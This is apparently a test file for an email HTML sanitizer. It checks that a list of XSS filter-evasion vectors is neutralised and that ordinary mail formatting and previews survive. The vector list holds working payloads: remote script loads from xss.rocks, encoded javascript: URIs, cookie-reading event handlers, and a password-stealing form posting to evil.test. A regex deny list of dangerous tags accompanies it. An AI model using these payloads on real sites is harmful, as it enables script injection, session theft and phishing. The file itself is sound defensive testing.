import { deriveMessageText, previewOf, sanitizeMessageHtml } from './sanitize';

/** OWASP XSS filter-evasion cheat sheet vectors (and a few mail-specific ones). */
const XSS_VECTORS = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  "<svg/onload=alert('XSS')>",
  "<BODY ONLOAD=alert('XSS')>",
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt&#58;alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<form action="https://evil.test/steal"><input name="password"><button>Sign in</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<x onclick=alert(1)>click me</x>',
];

const DANGEROUS_TAG =
  /<\s*\/?\s*(script|iframe|frame|frameset|form|input|button|textarea|select|object|embed|applet|svg|math|meta|link|base|style|bgsound|body|video|audio|source|details|noscript)\b/i;

/** Every tag the sanitized output still carries, so text that merely mentions a vector is not flagged. */
const tagsOf = (html: string) => html.match(/<[a-z][^>]*>/gi) ?? [];

describe('sanitizeMessageHtml against the XSS filter-evasion corpus', () => {
  it('has at least 30 vectors', () => {
    expect(XSS_VECTORS.length).toBeGreaterThanOrEqual(30);
  });

  it.each(XSS_VECTORS.map((vector) => [vector]))('neutralises %s', (vector) => {
    const safe = sanitizeMessageHtml(`<p>Hello</p>${vector}`);

    expect(safe).not.toMatch(DANGEROUS_TAG);
    for (const tag of tagsOf(safe)) {
      expect(tag).not.toMatch(/\son[a-z]+\s*=/i);
      expect(tag).not.toMatch(/(java|vb|live)script\s*:|data\s*:\s*text|expression\s*\(|url\s*\(/i);
      expect(tag).not.toMatch(/\s(dynsrc|lowsrc|background|action|formaction)\s*=/i);
    }
    // Sanitizing what was stored changes nothing: the stored body is already in its final form.
    expect(sanitizeMessageHtml(safe)).toBe(safe);
  });
});

describe('sanitizeMessageHtml on ordinary mail', () => {
  it('keeps text formatting, links, images and tables, and opens links in a new context', () => {
    const safe = sanitizeMessageHtml(
      '<p style="color: #333; font-size: 14px">Hi <b>Dana</b>, see <a href="https://example.com/q">the quote</a></p>' +
        '<table><tr><td colspan="2">Total</td></tr></table><img src="https://example.com/logo.png" alt="logo">',
    );

    expect(safe).toContain('<p style="color:#333;font-size:14px">Hi <b>Dana</b>');
    expect(safe).toContain('href="https://example.com/q" target="_blank" rel="noopener noreferrer nofollow"');
    expect(safe).toContain('<td colspan="2">Total</td>');
    expect(safe).toContain('<img src="https://example.com/logo.png" alt="logo" />');
  });

  it('escapes plain text (texts, transcripts) and keeps its line breaks', () => {
    expect(sanitizeMessageHtml('Is 3 < 5 & 7?\nCall me')).toBe('Is 3 &lt; 5 &amp; 7?<br />Call me');
  });
});

describe('previewOf', () => {
  it('cuts at 150 characters with an ellipsis and leaves shorter text whole', () => {
    const long = 'word '.repeat(60).trim();
    const preview = previewOf(long);

    expect(preview.length).toBeLessThanOrEqual(150);
    expect(preview.endsWith('…')).toBe(true);
    expect(long.startsWith(preview.slice(0, -1))).toBe(true);
    expect(previewOf('Short note')).toBe('Short note');
  });

  it('derives the stored body, preview and lower-cased search text together', () => {
    expect(deriveMessageText('Leaking FAUCET', '<p>Kitchen <script>x()</script>tap drips</p>')).toEqual({
      content: '<p>Kitchen tap drips</p>',
      preview: 'Kitchen tap drips',
      searchText: 'leaking faucet\nkitchen tap drips',
    });
    expect(deriveMessageText(null, null)).toEqual({ content: null, preview: '', searchText: '\n' });
  });
});
